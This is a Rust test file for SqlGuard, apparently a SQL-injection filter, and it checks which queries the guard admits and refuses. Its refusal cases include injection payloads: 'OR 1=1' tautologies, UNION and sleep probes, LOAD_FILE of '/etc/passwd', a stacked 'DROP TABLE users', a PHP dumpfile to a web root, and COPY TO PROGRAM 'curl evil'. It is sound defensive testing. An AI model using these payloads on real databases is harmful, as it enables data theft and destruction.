//! `SqlGuard` through its public API: each rule refuses what it names, at its position, and
//! admits the statements applications write.
#![allow(clippy::unwrap_used, clippy::panic, reason = "tests fail loudly")]

use palisade_sql::{Dialect, Params, Rule, SqlGuard, SqlPolicy, StatementKind};
use palisade_test::Canary;

/// A statement, the guard and parameters it is checked with, and the expected refusal.
type Case<'a> = (&'a SqlGuard, &'a str, &'a Params, (Rule, u64, u64));

fn read_only(dialect: Dialect) -> SqlGuard {
    SqlGuard::new(SqlPolicy::read_only(dialect))
}

fn refused(guard: &SqlGuard, sql: &str, params: &Params) -> (Rule, u64, u64) {
    match guard.check(sql, params) {
        Ok(_) => panic!("admitted: {sql}"),
        Err(v) => (v.rule(), v.line(), v.column()),
    }
}

#[test]
fn templates_applications_write_are_admitted() {
    let cases: &[(Dialect, &str, Params)] = &[
        (
            Dialect::Postgres,
            "SELECT name FROM users WHERE id = :id",
            Params::named(["id"]),
        ),
        (
            Dialect::Postgres,
            "SELECT name FROM users WHERE id = $1 AND org = $2 LIMIT 10 OFFSET 20",
            Params::positional(2),
        ),
        (
            Dialect::Postgres,
            "SELECT u.name, count(o.id) FROM users u JOIN orders o ON o.user_id = u.id WHERE u.org = :org GROUP BY u.name ORDER BY 2 DESC",
            Params::named(["org"]),
        ),
        (
            Dialect::Postgres,
            "SELECT name FROM users WHERE 1 = 1 AND deleted_at IS NULL AND active = TRUE AND id = :id",
            Params::named(["id"]),
        ),
        (
            Dialect::Postgres,
            "SELECT 'user' AS kind, name FROM users WHERE id IN (:a, :b)",
            Params::named(["a", "b"]),
        ),
        (
            Dialect::MySql,
            "SELECT name FROM users WHERE id = ? AND status = ? LIMIT 5",
            Params::positional(2),
        ),
        (Dialect::MySql, "SELECT 1--1", Params::none()),
        (
            Dialect::Sqlite,
            "SELECT name FROM users WHERE id = ?1",
            Params::positional(1),
        ),
        (
            Dialect::MsSql,
            "SELECT TOP 10 name FROM users WHERE id = @p1 AND org = @p2",
            Params::named(["p1", "p2"]),
        ),
        (
            Dialect::Postgres,
            "WITH recent AS (SELECT id FROM orders WHERE placed_at > :since) SELECT count(*) FROM recent",
            Params::named(["since"]),
        ),
        (Dialect::Postgres, "SELECT 1 UNION SELECT 2", Params::none()),
        (
            Dialect::Postgres,
            "SELECT a FROM (SELECT a FROM t UNION ALL SELECT NULL) s",
            Params::none(),
        ),
        (
            Dialect::Postgres,
            "SELECT a, b FROM t UNION ALL SELECT NULL, 42",
            Params::none(),
        ),
    ];
    for (dialect, sql, params) in cases {
        let checked = read_only(*dialect).check(sql, params);
        assert!(checked.is_ok(), "{sql}: {:?}", checked.err());
    }
    let checked = read_only(Dialect::Postgres)
        .check(
            "SELECT o.id FROM public.orders o WHERE o.id = :id",
            &Params::named(["id"]),
        )
        .unwrap();
    assert_eq!(checked.tables(), ["public.orders"]);
    assert_eq!(checked.placeholders(), [":id"]);
}

#[test]
fn each_rule_refuses_what_it_names_where_it_is() {
    let pg = read_only(Dialect::Postgres);
    let my = read_only(Dialect::MySql);
    let id = Params::named(["id"]);
    let none = Params::none();
    let cases: &[Case<'_>] = &[
        (
            &pg,
            "SELECT name FROM users WHERE id = :id OR 1=1",
            &id,
            (Rule::Tautology, 1, 30),
        ),
        (
            &pg,
            "SELECT name FROM users WHERE id = :id OR 'a'='a'",
            &id,
            (Rule::Tautology, 1, 30),
        ),
        (
            &pg,
            "SELECT name FROM users WHERE id = :id OR name = name",
            &id,
            (Rule::Tautology, 1, 30),
        ),
        (
            &pg,
            "SELECT name FROM users WHERE id = :id OR TRUE",
            &id,
            (Rule::Tautology, 1, 30),
        ),
        (
            &pg,
            "SELECT name FROM users WHERE id = :id OR NOT (2 > 3)",
            &id,
            (Rule::Tautology, 1, 30),
        ),
        (
            &pg,
            "SELECT name FROM users WHERE id = :id UNION ALL SELECT CONCAT('qvjvq', 'x')",
            &id,
            (Rule::UnionProbe, 1, 49),
        ),
        (
            &pg,
            "SELECT name FROM users WHERE id = :id UNION ALL SELECT NULL",
            &id,
            (Rule::UnionProbe, 1, 49),
        ),
        (
            &pg,
            "SELECT name FROM users WHERE id = :id AND 8312=8312",
            &id,
            (Rule::BooleanProbe, 1, 43),
        ),
        (
            &pg,
            "SELECT name FROM users WHERE id = :id AND 'abc' LIKE 'abc%'",
            &id,
            (Rule::BooleanProbe, 1, 43),
        ),
        (
            &pg,
            "SELECT name FROM users ORDER BY (CASE WHEN 5952=5952 THEN name ELSE id END)",
            &Params::none(),
            (Rule::BooleanProbe, 1, 44),
        ),
        (
            &pg,
            "SELECT name FROM users WHERE id = :id AND pg_sleep(5) IS NULL",
            &id,
            (Rule::DangerousFunction, 1, 43),
        ),
        (
            &my,
            "SELECT name FROM users WHERE id = ? AND SLEEP(5)",
            &Params::positional(1),
            (Rule::DangerousFunction, 1, 41),
        ),
        (
            &my,
            "SELECT BENCHMARK(1000000, MD5('a'))",
            &none,
            (Rule::DangerousFunction, 1, 8),
        ),
        (
            &my,
            "SELECT LOAD_FILE('/etc/passwd')",
            &none,
            (Rule::DangerousFunction, 1, 8),
        ),
        (
            &pg,
            "SELECT pg_read_file('/etc/passwd')",
            &none,
            (Rule::DangerousFunction, 1, 8),
        ),
        (
            &pg,
            "SELECT name FROM users WHERE id = :id; DROP TABLE users",
            &id,
            (Rule::MultipleStatements, 1, 40),
        ),
        (
            &pg,
            "SELECT name FROM users -- WHERE deleted",
            &none,
            (Rule::Comment, 1, 24),
        ),
        (&pg, "SELECT 1--1", &none, (Rule::Comment, 1, 9)),
        (
            &my,
            "SELECT name FROM users # x",
            &none,
            (Rule::Comment, 1, 24),
        ),
        (
            &my,
            "SELECT name FROM users WHERE id = 1 /*!50000UNION*/ SELECT 1",
            &none,
            (Rule::ExecutableComment, 1, 37),
        ),
        (
            &pg,
            "SELECT /*! 1 */ 2",
            &none,
            (Rule::ExecutableComment, 1, 8),
        ),
        (
            &my,
            "SELECT * FROM users INTO OUTFILE '/tmp/x'",
            &none,
            (Rule::FileAccess, 1, 21),
        ),
        (
            &my,
            "SELECT '<?php' INTO DUMPFILE '/var/www/x.php'",
            &none,
            (Rule::FileAccess, 1, 16),
        ),
        (
            &pg,
            "COPY users TO PROGRAM 'curl evil'",
            &none,
            (Rule::FileAccess, 1, 6),
        ),
        (
            &pg,
            "COPY users FROM '/etc/passwd'",
            &none,
            (Rule::FileAccess, 1, 6),
        ),
        (
            &pg,
            "SELECT table_name FROM information_schema.tables",
            &none,
            (Rule::CatalogRead, 1, 24),
        ),
        (
            &pg,
            "SELECT usename FROM pg_user",
            &none,
            (Rule::CatalogRead, 1, 21),
        ),
        (
            &my,
            "SELECT user FROM mysql.user",
            &none,
            (Rule::CatalogRead, 1, 18),
        ),
        (
            &pg,
            "DELETE FROM users WHERE id = :id",
            &id,
            (Rule::StatementNotAllowed, 1, 1),
        ),
        (
            &pg,
            "WITH d AS (DELETE FROM users RETURNING id) SELECT * FROM d",
            &none,
            (Rule::StatementNotAllowed, 1, 1),
        ),
        (
            &pg,
            "SELECT * INTO copy FROM users",
            &none,
            (Rule::StatementNotAllowed, 1, 1),
        ),
        (
            &pg,
            "SELECT name FROM users WHERE id = 42",
            &none,
            (Rule::LiteralValue, 1, 35),
        ),
        (
            &pg,
            "SELECT name FROM users WHERE name = 'ann'",
            &none,
            (Rule::LiteralValue, 1, 37),
        ),
        (
            &pg,
            "SELECT name FROM users WHERE id = :x",
            &id,
            (Rule::PlaceholderUnbound, 1, 35),
        ),
        (
            &pg,
            "SELECT name FROM users",
            &id,
            (Rule::ParameterUnused, 0, 0),
        ),
        (
            &pg,
            "SELECT name FROM users WHERE id = $1 AND org = :org",
            &Params::positional(1),
            (Rule::PlaceholderStyle, 1, 48),
        ),
        (
            &pg,
            "SELECT name FROM users WHERE id = $2",
            &Params::positional(1),
            (Rule::PlaceholderUnbound, 1, 35),
        ),
        (
            &pg,
            "SELECT name FROM users WHERE id = $1",
            &Params::positional(2),
            (Rule::ParameterUnused, 0, 0),
        ),
        (
            &my,
            "SELECT name FROM users WHERE id = ? AND org = ?",
            &Params::positional(1),
            (Rule::PlaceholderUnbound, 1, 47),
        ),
        (
            &pg,
            "SELECT name FROM users WHERE",
            &none,
            (Rule::Unparsable, 0, 0),
        ),
        (&pg, "SELECT 'unterminated", &none, (Rule::Unparsable, 1, 8)),
        (&pg, "   ", &none, (Rule::Empty, 0, 0)),
    ];
    for (guard, sql, params, expected) in cases {
        assert_eq!(refused(guard, sql, params), *expected, "{sql}");
    }
}

#[test]
fn policies_widen_only_what_they_name() {
    let tables = SqlGuard::new(SqlPolicy::read_write(Dialect::Postgres).with_tables(["users"]));
    let id = Params::named(["id"]);
    assert!(
        tables
            .check("UPDATE users SET active = :id WHERE id = :id", &id)
            .is_ok()
    );
    assert_eq!(
        refused(&tables, "SELECT * FROM orders WHERE id = :id", &id),
        (Rule::TableNotAllowed, 1, 15)
    );
    assert_eq!(
        refused(&tables, "DROP TABLE users", &Params::none()).0,
        Rule::StatementNotAllowed
    );
    let admin = SqlGuard::new(
        SqlPolicy::read_write(Dialect::Postgres)
            .allow(StatementKind::Ddl)
            .allow(StatementKind::Transaction)
            .allow_literals()
            .allow_catalog(),
    );
    for sql in [
        "CREATE TABLE t (a int DEFAULT 0)",
        "BEGIN",
        "SELECT name FROM users WHERE id = 42",
        "SELECT relname FROM pg_class",
    ] {
        assert!(admin.check(sql, &Params::none()).is_ok(), "{sql}");
    }
    assert_eq!(
        refused(&admin, "GRANT ALL ON users TO eve", &Params::none()).0,
        Rule::StatementNotAllowed
    );
    // Injection evidence stays refused whatever the policy admits.
    assert_eq!(
        refused(
            &admin,
            "SELECT name FROM users WHERE id = 1 OR 1=1",
            &Params::none()
        )
        .0,
        Rule::Tautology
    );
}

#[test]
fn deep_nesting_is_refused_not_overflowed() {
    let guard = read_only(Dialect::Postgres);
    let deep = format!("SELECT {}1{}", "(".repeat(5_000), ")".repeat(5_000));
    assert_eq!(refused(&guard, &deep, &Params::none()).0, Rule::TooDeep);
    let huge = format!("SELECT 1 FROM users WHERE {}", "TRUE AND ".repeat(40_000));
    assert_eq!(refused(&guard, &huge, &Params::none()).0, Rule::TooLong);
}

#[test]
fn violations_never_carry_the_statement() {
    let canary = Canary::new();
    let sql = format!(
        "SELECT name FROM users WHERE secret = '{}' OR 1=1",
        canary.value()
    );
    let violation = read_only(Dialect::Postgres)
        .check(&sql, &Params::none())
        .unwrap_err();
    canary.assert_not_in_display(&violation);
    canary.assert_not_in_debug(&violation);
    assert_eq!(
        format!("{violation:?}"),
        "Violation { rule: Tautology, line: 1, column: 30 }"
    );
}

#[test]
fn a_checked_statement_never_shows_its_values() {
    let canary = Canary::new();
    let sql = format!(
        "SELECT lower(name) FROM users WHERE secret = '{}' AND id = :id",
        canary.value()
    );
    let guard = SqlGuard::new(SqlPolicy::read_only(Dialect::Postgres).allow_literals());
    let checked = guard.check(&sql, &Params::named(["id"])).unwrap();
    canary.assert_not_in_debug(&checked);
    assert_eq!(
        format!("{checked:?}"),
        r#"Checked { tables: ["users"], functions: ["lower"], placeholders: [":id"], .. }"#
    );
}
